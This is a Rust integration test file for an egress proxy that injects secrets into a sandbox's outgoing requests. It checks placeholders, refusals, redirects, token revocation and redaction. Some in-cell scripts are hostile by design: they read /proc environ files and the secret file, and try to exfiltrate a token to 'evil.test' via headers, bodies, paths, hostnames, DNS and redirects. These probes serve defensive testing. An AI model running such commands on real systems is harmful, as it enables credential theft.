//! Secrets injected at the egress proxy, through the real binary (docs/credentials.md):
//! the cell holds a per-run placeholder, the upstream receives the real value only on an
//! allowed request, and every other use of the placeholder is refused and recorded.
//!
//! The upstream is `common::logging_upstream` on 127.0.0.2 (exempted by the test's
//! operator config), logging every request it gets; `api.test`
//! and `evil.test` both map to it through the config's static host map. The secret's
//! value lives in a file of the test's directory, which no cell can see.

mod common;

use common::logging_upstream::{authorization, LoggingUpstream as Upstream};
use common::served::Served;
use common::tier::Tier;
use common::CellRun;
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

const UPSTREAM_IP: &str = common::logging_upstream::ADDRESS;
/// The service tenant's API key in the session test.
const SERVICE_KEY: &str = "credentials-injection-key";

both_tiers! {
fn a_sessions_commands_get_the_value_swapped_in_as_a_run_does(tier) {
    require_cells!();
    let env = Env::bearer();
    let up = Upstream::start(env.dir.path(), "upstream", None);
    let api = tier.contract(Some(&contract(up.port))).unwrap();
    let config = format!(
        "{}\n[server]\nlisten = [\"unix:SOCK\", \"tcp:127.0.0.1:PORT\"]\n\
         [server.contracts]\napi = \"api.yaml\"\n\
         [server.tenants.alice]\napi_key_sha256 = [\"{}\"]\n",
        std::fs::read_to_string(&env.config).unwrap(),
        common::sha256_hex(SERVICE_KEY),
    );
    let served = Served::start(&config, |dir| std::fs::write(dir.join("api.yaml"), &api).unwrap());
    let (code, session) = served.call(
        SERVICE_KEY,
        "POST",
        "/v1/sessions",
        Some(&serde_json::json!({"contract": "api"})),
    );
    assert_eq!(code, 201, "{session}\n{}", served.log());
    let id = session["session_id"].as_str().unwrap();
    let script = format!(
        "echo \"seen=$API_TOKEN\"; curl -sS --max-time 20 -X POST \
         -H \"Authorization: Bearer $API_TOKEN\" -d hi http://api.test:{}/v1/chat",
        up.port
    );
    // Two commands of one session: each gets the value swapped in at the proxy.
    let mut printed = String::new();
    for _ in 0..2 {
        let (code, frames) = served.call(
            SERVICE_KEY,
            "POST",
            &format!("/v1/sessions/{id}/exec"),
            Some(&serde_json::json!({"argv": ["/bin/sh", "-c", &script]})),
        );
        assert_eq!(code, 200, "{frames}\n{}", served.log());
        let frames = frames.as_array().cloned().unwrap_or_default();
        let last = frames.last().cloned().unwrap_or_default();
        assert_eq!(last["record"]["status"], "ok", "{frames:?}");
        printed.push_str(&frames.iter().filter_map(|f| f["data"].as_str()).collect::<String>());
    }
    let (code, closed) = served.call(SERVICE_KEY, "DELETE", &format!("/v1/sessions/{id}"), None);
    assert_eq!(code, 200, "{closed}");
    let shown = served.cli(&["runs", "show", id, "--json"]);
    let shown: Value = serde_json::from_slice(&shown.stdout).unwrap();
    assert_eq!(shown["run"]["plan"]["isolation"], tier.name(), "{shown}");
    assert_eq!(placeholders(&printed).len(), 2, "the cell saw placeholders: {printed}");
    assert!(!printed.contains(&env.value), "the cell never held the value: {printed}");
    let requests = up.requests();
    assert_eq!(requests.len(), 2, "both commands reached the upstream: {closed}");
    for request in &requests {
        assert_eq!(
            authorization(request),
            [format!("Bearer {}", env.value)],
            "the value was swapped in"
        );
    }
    let mut stored = Vec::new();
    for file in walk(&served.state_dir()) {
        stored.extend(std::fs::read(file).unwrap_or_default());
    }
    assert!(!String::from_utf8_lossy(&stored).contains(&env.value), "the store has no value");
    assert!(!closed.to_string().contains(&env.value), "the record has no value");
}
}

/// A test's directory: the operator config with one secret `api`, its value file, the
/// state dir.
struct Env {
    dir: tempfile::TempDir,
    config: PathBuf,
    state: PathBuf,
    value: String,
    value_file: PathBuf,
}

impl Env {
    /// `secret` is the body of `[secrets.api]` after its `source` line.
    fn new(secret: &str) -> Env {
        let dir = tempfile::tempdir().unwrap();
        let value = format!("sk-real-{}-{}", std::process::id(), nanos());
        let value_file = dir.path().join("api-token");
        std::fs::write(&value_file, format!("{value}\n")).unwrap();
        let config = dir.path().join("airlock.toml");
        std::fs::write(
            &config,
            format!(
                r#"[egress]
resolve = {{ "api.test" = "{UPSTREAM_IP}", "evil.test" = "{UPSTREAM_IP}" }}
exempt_cidrs = ["127.0.0.2/32"]

[secrets.api]
source = {{ file = "{}" }}
{secret}
"#,
                value_file.display()
            ),
        )
        .unwrap();
        let state = dir.path().join("state");
        Env {
            dir,
            config,
            state,
            value,
            value_file,
        }
    }

    fn bearer() -> Env {
        Env::new(
            r#"hosts = ["api.test"]
placement = { header = { name = "Authorization", format = "Bearer {}" } }
methods = ["POST"]
path_prefixes = ["/v1/"]"#,
        )
    }

    fn run(&self, tier: Tier, contract: &str, script: &str) -> CellRun {
        tier.run_in(
            self.dir.path(),
            Some(contract),
            &[
                "--config",
                self.config.to_str().unwrap(),
                "--state-dir",
                self.state.to_str().unwrap(),
            ],
            &["/bin/sh", "-c", script],
        )
    }

    fn airlock(&self, args: &[&str]) -> (i32, String, String) {
        let out = Command::new(common::airlock_bin())
            .args(args)
            .arg("--state-dir")
            .arg(&self.state)
            .stdin(Stdio::null())
            .output()
            .unwrap();
        (
            out.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    }

    /// Every byte of the audit store's files, as text.
    fn store_bytes(&self) -> String {
        let mut all = Vec::new();
        for entry in walk(&self.state) {
            all.extend(std::fs::read(entry).unwrap_or_default());
        }
        String::from_utf8_lossy(&all).into_owned()
    }

    fn export(&self) -> String {
        let (code, out, err) = self.airlock(&["audit", "export"]);
        assert_eq!(code, 0, "audit export: {err}");
        out
    }
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut files = Vec::new();
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() {
            files.extend(walk(&path));
        } else {
            files.push(path);
        }
    }
    files
}

fn nanos() -> u32 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .subsec_nanos()
}

fn contract(port: u16) -> String {
    format!(
        "network:\n  mode: allowlist\n  allowed_domains: [\"api.test:{port}\", \"evil.test:{port}\"]\n\
         secrets:\n  - {{ name: api, env: API_TOKEN }}\n"
    )
}

/// The placeholders in `text` (`airlock-secret-` and 32 hex digits).
fn placeholders(text: &str) -> Vec<String> {
    let marker = "airlock-secret-";
    text.match_indices(marker)
        .map(|(i, _)| {
            let rest = &text[i + marker.len()..];
            let hex: String = rest.chars().take_while(char::is_ascii_hexdigit).collect();
            format!("{marker}{hex}")
        })
        .filter(|p| p.len() == marker.len() + 32)
        .collect()
}

fn egress(run: &CellRun) -> Vec<Value> {
    run.result["egress"].as_array().cloned().unwrap_or_default()
}

fn denial_reasons(run: &CellRun) -> Vec<String> {
    egress(run)
        .iter()
        .filter(|r| r["decision"] == "denied")
        .map(|r| r["reason"].as_str().unwrap_or("").to_string())
        .collect()
}

both_tiers! {
fn the_upstream_gets_the_value_while_the_cell_only_ever_holds_the_placeholder(tier) {
    require_cells!();
    let env = Env::bearer();
    let up = Upstream::start(env.dir.path(), "upstream", None);
    let port = up.port;
    let script = format!(
        "echo \"seen=$API_TOKEN\"; \
         curl -sS --max-time 20 -X POST -H \"Authorization: Bearer $API_TOKEN\" \
           -d hello http://api.test:{port}/v1/chat; \
         echo '--- environ'; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; \
         echo '--- cmdlines'; cat /proc/*/cmdline 2>/dev/null | tr '\\0' ' '; \
         echo '--- value file'; cat {} 2>&1; \
         echo '--- files'; grep -rls 'sk-real' /tmp /etc 2>/dev/null; echo end",
        env.value_file.display()
    );
    let run = env.run(tier, &contract(port), &script);
    assert_eq!(run.status(), "ok", "{}", run.describe());
    let seen = run.stdout();
    let held = placeholders(&seen);
    assert!(!held.is_empty(), "the cell holds a placeholder: {seen}");
    assert!(
        !seen.contains(&env.value),
        "the cell saw the real value: {seen}"
    );
    assert!(seen.contains("\nok\n"), "the request went through: {seen}");

    let requests = up.requests();
    assert_eq!(requests.len(), 1, "{}", up.raw_log());
    assert_eq!(
        authorization(&requests[0]),
        [format!("Bearer {}", env.value)],
        "{}",
        up.raw_log()
    );
    assert!(
        !up.raw_log().contains("airlock-secret-"),
        "{}",
        up.raw_log()
    );

    let result = serde_json::to_string(&run.result).unwrap();
    let store = env.store_bytes();
    let export = env.export();
    for (what, text) in [("result", &result), ("store", &store), ("export", &export)] {
        assert!(!text.contains(&env.value), "the value is in the {what}");
        for placeholder in &held {
            assert!(
                !text.contains(placeholder),
                "a placeholder is in the {what}"
            );
        }
    }
    assert!(export.contains("egress.decision"), "{export}");
}
}

both_tiers! {
fn every_other_use_of_a_placeholder_is_refused_and_recorded(tier) {
    require_cells!();
    let env = Env::bearer();
    let up = Upstream::start(env.dir.path(), "upstream", None);
    let port = up.port;
    let hdr = "-H \"Authorization: Bearer $API_TOKEN\"";
    let attempts = [
        // Another allowed host.
        format!("-X POST {hdr} http://evil.test:{port}/v1/a"),
        // A body, to the right host.
        format!("-X POST -d \"t=$API_TOKEN\" http://api.test:{port}/v1/b"),
        // The URL's path and another header.
        format!("-X POST http://api.test:{port}/v1/$API_TOKEN"),
        format!("-X POST -H \"X-Key: $API_TOKEN\" http://api.test:{port}/v1/c"),
        // A host name.
        format!("-X POST http://$API_TOKEN.evil.test:{port}/v1/d"),
        // The method and the path rules of the secret.
        format!("-X GET {hdr} http://api.test:{port}/v1/e"),
        format!("-X POST {hdr} http://api.test:{port}/admin"),
        format!("-X POST {hdr} http://api.test:{port}/v1/../admin --path-as-is"),
        // A redirect to an allowed host the secret is not for, with the header kept.
        format!(
            "-X POST {hdr} -L --location-trusted \
             'http://api.test:{port}/v1/redirect?to=http://evil.test:{port}/v1/f'"
        ),
        // A redirect to a host outside the allowlist.
        format!("-X POST {hdr} -L 'http://api.test:{port}/v1/redirect?to=http://forbidden.test:{port}/v1/g'"),
    ];
    let mut script = String::new();
    for attempt in &attempts {
        script.push_str(&format!(
            "curl -s -o /dev/null -w '%{{http_code}}\\n' --max-time 20 {attempt}; "
        ));
    }
    // The cell's resolver is asked for a name carrying the placeholder.
    script.push_str("getent hosts \"$API_TOKEN.api.test\" >/dev/null; echo done");
    let run = env.run(tier, &contract(port), &script);
    assert!(run.stdout().ends_with("done\n"), "{}", run.describe());

    let mut reasons: Vec<String> = egress(&run)
        .iter()
        .filter(|r| r["decision"] == "denied" && r["protocol"] != "dns")
        .map(|r| r["reason"].as_str().unwrap_or("").to_string())
        .collect();
    reasons.sort();
    let mut expected = vec![
        "egress.secret_wrong_destination", // evil.test
        "egress.secret_wrong_destination", // body
        "egress.secret_wrong_destination", // path
        "egress.secret_wrong_destination", // X-Key
        "egress.secret_wrong_destination", // host name
        "egress.method_not_allowed",
        "egress.path_not_allowed",
        "egress.path_not_allowed",
        "egress.secret_wrong_destination", // redirected to evil.test
        "egress.not_allowlisted",          // redirected to forbidden.test
    ];
    expected.sort();
    assert_eq!(reasons, expected, "{}", run.describe());
    let dns: Vec<Value> = egress(&run)
        .into_iter()
        .filter(|r| r["protocol"] == "dns")
        .collect();
    // The resolver's refusals (one per query type asked), the name masked: on gVisor
    // the forwarder carries the query to the same resolver (docs/threat-model.md, "Tiers").
    assert!(!dns.is_empty(), "{} {}", tier.name(), run.describe());
    for record in &dns {
        assert_eq!(record["host"], "[PLACEHOLDER].api.test");
        assert_eq!(record["reason"], "egress.secret_wrong_destination");
    }

    // Only the two redirecting requests reached the upstream, with the value; nothing
    // ever carried a placeholder there.
    let requests = up.requests();
    let paths: Vec<&str> = requests
        .iter()
        .map(|r| r["path"].as_str().unwrap())
        .collect();
    assert_eq!(paths.len(), 2, "{}", up.raw_log());
    assert!(
        paths.iter().all(|p| p.starts_with("/v1/redirect")),
        "{paths:?}"
    );
    assert!(
        !up.raw_log().contains("airlock-secret-"),
        "{}",
        up.raw_log()
    );

    // The refusals are in the audit store with their reason codes, and the chain holds.
    let run_id = run.result["run_id"].as_str().unwrap().to_string();
    let (code, show, err) = env.airlock(&["runs", "show", &run_id, "--json"]);
    assert_eq!(code, 0, "runs show: {err}");
    let detail: Value = serde_json::from_str(&show).unwrap();
    let stored: Vec<&str> = detail["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["kind"] == "egress.decision")
        .filter_map(|e| e["body"]["reason_code"].as_str())
        .collect();
    for code in [
        "egress.secret_wrong_destination",
        "egress.method_not_allowed",
        "egress.path_not_allowed",
    ] {
        assert!(stored.contains(&code), "{code} not stored: {show}");
    }
    assert!(!show.contains("airlock-secret-"), "{show}");
    let (code, out, err) = env.airlock(&["audit", "verify"]);
    assert_eq!(code, 0, "audit verify: {out}{err}");
}
}

both_tiers! {
fn a_placeholder_of_an_ended_run_is_refused(tier) {
    require_cells!();
    let env = Env::bearer();
    let up = Upstream::start(env.dir.path(), "upstream", None);
    let port = up.port;
    let first = env.run(tier, &contract(port), "echo \"$API_TOKEN\"");
    assert_eq!(first.status(), "ok", "{}", first.describe());
    let old = placeholders(&first.stdout());
    assert_eq!(old.len(), 1, "{}", first.describe());
    let script = format!(
        "[ \"$API_TOKEN\" != '{old}' ] && echo fresh; \
         curl -s -o /dev/null -w '%{{http_code}}\\n' --max-time 20 -X POST \
           -H 'Authorization: Bearer {old}' http://api.test:{port}/v1/late",
        old = old[0]
    );
    let second = env.run(tier, &contract(port), &script);
    assert!(
        second.stdout().starts_with("fresh\n403"),
        "{}",
        second.describe()
    );
    assert_eq!(
        denial_reasons(&second),
        ["egress.secret_unknown"],
        "{}",
        second.describe()
    );
    assert!(up.requests().is_empty(), "{}", up.raw_log());
}
}

both_tiers! {
fn a_value_the_payload_prints_is_redacted_in_what_airlock_stores(tier) {
    require_cells!();
    let env = Env::bearer();
    let up = Upstream::start(env.dir.path(), "upstream", None);
    let port = up.port;
    // The upstream echoes the credential back: the payload now holds the real value
    // and prints it, with its placeholder.
    let script = format!(
        "echo \"placeholder $API_TOKEN\"; \
         curl -sS --max-time 20 -X POST -H \"Authorization: Bearer $API_TOKEN\" \
           http://api.test:{port}/v1/echo"
    );
    let run = env.run(tier, &contract(port), &script);
    assert_eq!(run.status(), "ok", "{}", run.describe());
    assert!(
        run.stdout().contains(&format!("echo Bearer {}", env.value)),
        "the echo arrived: {}",
        run.describe()
    );
    let held = placeholders(&run.stdout());
    let stored_stdout = run.result["output"]["stdout"].to_string();
    assert!(stored_stdout.contains("[REDACTED]"), "{stored_stdout}");
    let run_id = run.result["run_id"].as_str().unwrap().to_string();
    let (_, show, _) = env.airlock(&["runs", "show", &run_id, "--json"]);
    for text in [
        serde_json::to_string(&run.result).unwrap(),
        show,
        env.store_bytes(),
        env.export(),
    ] {
        assert!(!text.contains(&env.value), "the value was stored");
        assert!(
            held.iter().all(|p| !text.contains(p)),
            "a placeholder was stored"
        );
    }
}
}

both_tiers! {
fn a_secret_the_operator_did_not_define_or_cannot_read_refuses_the_run(tier) {
    require_cells!();
    let env = Env::bearer();
    let undefined = "network:\n  mode: allowlist\n  allowed_domains: [\"api.test:80\"]\n\
                     secrets:\n  - { name: nobody, env: API_TOKEN }\n";
    let run = env.run(tier, undefined, "echo ran");
    assert_eq!(run.status(), "policy_denied", "{}", run.describe());
    assert!(!run.stdout().contains("ran"), "{}", run.describe());
    assert!(
        run.result["error"]
            .as_str()
            .unwrap_or("")
            .contains("\"nobody\" is not defined"),
        "{}",
        run.describe()
    );
    std::fs::remove_file(&env.value_file).unwrap();
    let run = env.run(tier, &contract(80), "echo ran");
    assert_eq!(run.status(), "policy_denied", "{}", run.describe());
    assert!(!run.stdout().contains("ran"), "{}", run.describe());
}
}

both_tiers! {
fn plain_http_inside_a_connect_tunnel_gets_the_same_swap_and_refusals(tier) {
    require_cells!();
    let env = Env::bearer();
    let up = Upstream::start(env.dir.path(), "upstream", None);
    let port = up.port;
    let script = format!(
        "curl -s -o /dev/null -w '%{{http_code}}\\n' --max-time 20 --proxytunnel -X POST \
           -H \"Authorization: Bearer $API_TOKEN\" http://api.test:{port}/v1/tunnelled; \
         curl -s -o /dev/null -w '%{{http_code}}\\n' --max-time 20 --proxytunnel -X POST \
           -H \"Authorization: Bearer $API_TOKEN\" http://evil.test:{port}/v1/elsewhere; echo done"
    );
    let run = env.run(tier, &contract(port), &script);
    assert!(run.stdout().starts_with("200\n"), "{}", run.describe());
    let connects: Vec<Value> = egress(&run)
        .into_iter()
        .filter(|r| r["protocol"] == "connect")
        .collect();
    assert_eq!(connects.len(), 2, "{}", run.describe());
    assert_eq!(connects[0]["decision"], "allowed", "{}", run.describe());
    assert_eq!(connects[1]["reason"], "egress.secret_wrong_destination");
    let requests = up.requests();
    assert_eq!(requests.len(), 1, "{}", up.raw_log());
    assert!(
        up.raw_log().contains(&format!("Bearer {}", env.value)),
        "{}",
        up.raw_log()
    );
    assert!(
        !up.raw_log().contains("airlock-secret-"),
        "{}",
        up.raw_log()
    );
}
}

both_tiers! {
fn per_domain_http_rules_refuse_other_methods_and_paths_and_recheck_redirects(tier) {
    require_cells!();
    let env = Env::bearer();
    let up = Upstream::start(env.dir.path(), "upstream", None);
    let port = up.port;
    let contract = format!(
        "network:\n  mode: allowlist\n  allowed_domains: [\"api.test:{port}\", \"evil.test:{port}\"]\n  \
         http_rules:\n    - {{ host: api.test, methods: [GET], path_prefixes: [/simple/] }}\n"
    );
    let api = format!("http://api.test:{port}");
    let attempts = [
        format!("{api}/simple/x"),
        format!("-X POST {api}/simple/x"),
        format!("{api}/admin"),
        format!("--path-as-is {api}/simple/../admin"),
        // The redirect is followed as a new request, which its own rule refuses.
        format!("-L '{api}/simple/redirect?to={api}/admin'"),
        // Plain HTTP inside a CONNECT tunnel meets the same rule.
        format!("--proxytunnel -X POST {api}/simple/t"),
        // HTTPS to a domain with a rule is intercepted (credentials_https.rs); this
        // upstream speaks plain HTTP, so the verified upstream leg fails: a clean 502.
        format!("https://api.test:{port}/simple/tls"),
        // A domain without a rule takes any request.
        format!("-X POST http://evil.test:{port}/anything"),
    ];
    let mut script = String::new();
    for attempt in &attempts {
        script.push_str(&format!(
            "curl -s -o /dev/null -w '%{{http_code}}\\n' --max-time 20 {attempt}; "
        ));
    }
    let run = env.run(tier, &contract, &script);
    let stdout = run.stdout();
    let codes: Vec<&str> = stdout.lines().collect();
    assert_eq!(
        codes,
        ["200", "403", "403", "403", "403", "403", "502", "200"],
        "{}",
        run.describe()
    );
    let mut reasons = denial_reasons(&run);
    reasons.sort();
    let mut expected = vec![
        "egress.method_not_allowed",
        "egress.path_not_allowed",
        "egress.path_not_allowed",
        "egress.path_not_allowed",
        "egress.method_not_allowed",
        "egress.upstream_failed",
    ];
    expected.sort();
    assert_eq!(reasons, expected, "{}", run.describe());
    let paths: Vec<String> = up
        .requests()
        .iter()
        .map(|r| r["path"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(
        paths,
        [
            "/simple/x".to_string(),
            format!("/simple/redirect?to={api}/admin"),
            "/anything".to_string()
        ],
        "{}",
        up.raw_log()
    );
    let run_id = run.result["run_id"].as_str().unwrap().to_string();
    let (_, show, _) = env.airlock(&["runs", "show", &run_id, "--json"]);
    for code in [
        "egress.method_not_allowed",
        "egress.path_not_allowed",
        "egress.upstream_failed",
    ] {
        assert!(show.contains(code), "{code} not stored: {show}");
    }
}
}

/// A token provider (a shell script of the test) issuing `tok-<ttl>-<nanos>` and logging
/// each revocation.
fn provider_env(expires_at_unix: &str) -> (Env, PathBuf) {
    let env = Env::new(
        "hosts = [\"api.test\"]\nplacement = { header = { name = \"Authorization\", format = \"Bearer {}\" } }",
    );
    let dir = env.dir.path().join("provider");
    std::fs::create_dir_all(&dir).unwrap();
    let revoked = dir.join("revoked.log");
    let issue = dir.join("issue.sh");
    std::fs::write(
        &issue,
        format!(
            "#!/bin/sh\necho \"{{\\\"token\\\": \\\"tok-$AIRLOCK_TOKEN_TTL_SECONDS-$(date +%N)\\\", \\\"expires_at_unix\\\": {expires_at_unix}}}\"\n"
        ),
    )
    .unwrap();
    let revoke = dir.join("revoke.sh");
    std::fs::write(
        &revoke,
        format!("#!/bin/sh\ncat >> {0}\necho >> {0}\n", revoked.display()),
    )
    .unwrap();
    for script in [&issue, &revoke] {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(script, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let config = std::fs::read_to_string(&env.config).unwrap().replace(
        &format!("source = {{ file = \"{}\" }}", env.value_file.display()),
        &format!(
            "source = {{ provider = {{ command = [\"{}\"], revoke = [\"{}\"] }} }}",
            issue.display(),
            revoke.display()
        ),
    );
    std::fs::write(&env.config, config).unwrap();
    (env, revoked)
}

both_tiers! {
fn a_provider_token_fits_the_deadline_reaches_only_the_upstream_and_is_revoked_at_the_end(tier) {
    require_cells!();
    let (env, revoked) = provider_env("99999999999");
    let up = Upstream::start(env.dir.path(), "upstream", None);
    let port = up.port;
    let contract = format!("{}resources:\n  wall_time_seconds: 30\n", contract(port));
    let script = format!(
        "echo \"$API_TOKEN\"; curl -s -o /dev/null -w '%{{http_code}}\\n' --max-time 20 -X POST \
           -H \"Authorization: Bearer $API_TOKEN\" http://api.test:{port}/v1/x"
    );
    let run = env.run(tier, &contract, &script);
    assert_eq!(run.status(), "ok", "{}", run.describe());
    assert!(run.stdout().ends_with("200\n"), "{}", run.describe());
    assert!(
        !run.stdout().contains("tok-"),
        "the cell saw the token: {}",
        run.describe()
    );
    // The provider was asked for the deadline plus a minute.
    let sent = up.raw_log();
    let token_start = sent
        .find("Bearer tok-90-")
        .expect("the upstream got the token");
    let token: String = sent[token_start + "Bearer ".len()..]
        .chars()
        .take_while(|c| *c != '"')
        .collect();
    assert_eq!(
        std::fs::read_to_string(&revoked).unwrap().trim(),
        token,
        "the token was revoked when the run ended"
    );
    for text in [env.store_bytes(), env.export()] {
        assert!(!text.contains(&token), "the token was stored");
    }
}
}

both_tiers! {
fn a_provider_token_that_would_expire_before_the_deadline_refuses_the_run(tier) {
    require_cells!();
    let (env, revoked) = provider_env("1");
    let run = env.run(tier, &contract(80), "echo ran");
    assert_eq!(run.status(), "policy_denied", "{}", run.describe());
    assert!(!run.stdout().contains("ran"), "{}", run.describe());
    let error = run.result["error"].as_str().unwrap_or("");
    assert!(error.contains("before the run's deadline"), "{error}");
    assert!(!error.contains("tok-"), "{error}");
    assert!(
        !revoked.exists(),
        "nothing was issued for the run to revoke"
    );
}
}

both_tiers! {
fn a_run_refused_after_its_token_was_issued_revokes_the_token(tier) {
    require_cells!();
    let (env, revoked) = provider_env("99999999999");
    let contract = "network:\n  mode: allowlist\n  allowed_domains: [\"api.test:80\"]\n\
         secrets:\n  - { name: api, env: API_TOKEN }\n  - { name: nobody, env: OTHER }\n";
    let run = env.run(tier, contract, "echo ran");
    assert_eq!(run.status(), "policy_denied", "{}", run.describe());
    let log = std::fs::read_to_string(&revoked).unwrap_or_default();
    assert!(
        log.starts_with("tok-"),
        "the issued token was revoked: {log:?}"
    );
}
}

both_tiers! {
fn a_provider_token_delivered_into_the_env_is_redacted_everywhere_and_revoked(tier) {
    require_cells!();
    let (env, revoked) = provider_env("99999999999");
    let contract = "network:\n  mode: allowlist\n  allowed_domains: [\"api.test:80\"]\n\
         secrets:\n  - { name: api, env: API_TOKEN, deliver: env }\n\
         resources:\n  wall_time_seconds: 30\n";
    let run = env.run(tier, contract, "echo \"held=$API_TOKEN\"");
    assert_eq!(run.status(), "ok", "{}", run.describe());
    // The payload's live output is the caller's own terminal: it shows what the cell held.
    let live = run.stdout();
    let token = live
        .trim()
        .strip_prefix("held=")
        .expect("the payload printed its variable")
        .to_string();
    assert!(
        token.starts_with("tok-90-"),
        "the cell holds the token: {live}"
    );
    assert!(placeholders(&live).is_empty(), "no placeholder: {live}");
    assert_eq!(
        std::fs::read_to_string(&revoked).unwrap().trim(),
        token,
        "the token was revoked when the run ended"
    );
    let result = serde_json::to_string(&run.result).unwrap();
    let run_id = run.result["run_id"].as_str().unwrap().to_string();
    let (_, shown, _) = env.airlock(&["runs", "show", &run_id, "--json"]);
    assert!(shown.contains("[REDACTED]"), "the stored output: {shown}");
    for (what, text) in [
        ("result", result),
        ("runs show", shown),
        ("store", env.store_bytes()),
        ("export", env.export()),
    ] {
        assert!(!text.contains(&token), "the token is in the {what}");
    }
}
}

both_tiers! {
fn only_a_provider_token_may_be_delivered_into_the_env(tier) {
    require_cells!();
    let env = Env::bearer();
    let contract = "network:\n  mode: allowlist\n  allowed_domains: [\"api.test:80\"]\n\
         secrets:\n  - { name: api, env: API_TOKEN, deliver: env }\n";
    let run = env.run(tier, contract, "echo \"held=$API_TOKEN\"");
    assert_eq!(run.status(), "policy_denied", "{}", run.describe());
    assert!(!run.stdout().contains("held="), "{}", run.describe());
    let error = run.result["error"].as_str().unwrap_or("");
    assert!(
        error.contains("deliver: env needs a token provider"),
        "{error}"
    );
    let result = serde_json::to_string(&run.result).unwrap();
    assert!(!result.contains(&env.value), "{result}");
}
}

both_tiers! {
fn the_service_injects_the_operators_secrets_as_a_cli_run_does(tier) {
    require_cells!();
    let env = Env::bearer();
    let up = Upstream::start(env.dir.path(), "upstream", None);
    let port = up.port;
    // The same operator config, with a [server] naming the contract.
    let api = tier.contract(Some(&contract(port))).unwrap();
    std::fs::write(env.dir.path().join("api.yaml"), api).unwrap();
    let sock = env.dir.path().join("airlock.sock");
    let mut config = std::fs::read_to_string(&env.config).unwrap();
    config.push_str(&format!(
        "\n[server]\nlisten = [\"unix:{}\"]\n[server.contracts]\napi = \"api.yaml\"\n",
        sock.display()
    ));
    std::fs::write(&env.config, config).unwrap();
    let mut serve = Command::new(common::airlock_bin())
        .arg("serve")
        .arg("--config")
        .arg(&env.config)
        .arg("--state-dir")
        .arg(&env.state)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let service = common::host::Supervisor::of(&serve);
    let curl = |args: &[&str]| {
        Command::new("curl")
            .args(["-sS", "--max-time", "120", "--unix-socket"])
            .arg(&sock)
            .args(args)
            .output()
            .unwrap()
    };
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    while !curl(&["-f", "http://airlock/healthz"]).status.success() {
        assert!(
            std::time::Instant::now() < deadline,
            "the service did not start"
        );
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    let script = format!(
        "echo \"seen=$API_TOKEN\"; curl -sS --max-time 20 -X POST \
         -H \"Authorization: Bearer $API_TOKEN\" -d hi http://api.test:{port}/v1/chat"
    );
    let body = serde_json::json!({"contract": "api", "argv": ["/bin/sh", "-c", script]});
    let out = curl(&[
        "-H",
        "content-type: application/json",
        "--data-binary",
        &body.to_string(),
        "http://airlock/v1/runs?wait=true",
    ]);
    let answer = String::from_utf8_lossy(&out.stdout).into_owned();
    if tier == Tier::Gvisor {
        // The run has ended (`wait=true`): its sandbox is gone while the service lives.
        common::tier::assert_sandboxes_of_left_nothing(&service, &answer);
    }
    let _ = serve.kill();
    let _ = serve.wait();
    let record: Value = serde_json::from_str(&answer).unwrap_or_else(|e| panic!("{e}: {answer}"));
    assert_eq!(record["status"], "ok", "{answer}");
    let (_, shown, _) = env.airlock(&["runs", "show", record["run_id"].as_str().unwrap(), "--json"]);
    let shown: Value = serde_json::from_str(&shown).unwrap();
    assert_eq!(shown["run"]["plan"]["isolation"], tier.name(), "{shown}");
    let requests = up.requests();
    assert_eq!(
        requests.len(),
        1,
        "the request reached the upstream: {answer}"
    );
    assert_eq!(
        authorization(&requests[0]),
        [format!("Bearer {}", env.value)],
        "the value was swapped in"
    );
    assert!(!answer.contains(&env.value), "the record has no value");
    assert!(
        !env.store_bytes().contains(&env.value),
        "the store has no value"
    );
}
}
